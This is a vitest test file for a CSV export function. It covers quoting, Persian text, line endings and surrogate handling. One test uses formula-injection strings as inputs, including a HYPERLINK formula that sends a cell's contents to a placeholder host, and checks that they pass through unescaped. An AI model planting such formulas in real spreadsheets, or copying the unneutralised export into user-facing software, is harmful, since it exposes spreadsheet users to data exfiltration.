import { describe, expect, it } from 'vitest';
import { csvField, toCsv } from '../../src/export/csv.ts';

describe('CSV', () => {
  it('quotes only the fields that need it, doubling quotes (RFC 4180)', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "no"')).toBe('"say ""no"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(undefined)).toBe('');
    expect(csvField(14)).toBe('14');
    expect(csvField(false)).toBe('false');
  });

  it('keeps Persian text, its punctuation and zero-width non-joiners as they are', () => {
    const text = 'ما قویا با هرگونه استثناء یا خلاء، «انتقال فناوری» می‌دارم؛ ماده ۱۴';
    expect(csvField(text)).toBe(text); // the Arabic comma ، is not a field separator
    expect(csvField('بین‌المللی')).toBe('بین‌المللی');
  });

  it('ends every record, the last included, with CRLF', () => {
    expect(toCsv(['a', 'b'], [[1, 'x,y']])).toBe('a,b\r\n1,"x,y"\r\n');
  });

  it('keeps every cell verbatim: hostile text round-trips, an unpaired surrogate is refused', () => {
    for (const text of [
      '=HYPERLINK("http://x/?"&A1,"x")',
      '+cmd',
      '@SUM(1)',
      '\t=1',
      'a\r\nb',
      '\u200c',
    ]) {
      const field = csvField(text);
      const back = field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field;
      expect(back).toBe(text);
    }
    expect(() => csvField('a\ud800b')).toThrow(/unpaired surrogate/);
    expect(csvField('a\ud83d\ude00b')).toBe('a\ud83d\ude00b'); // a pair is a character
  });
});
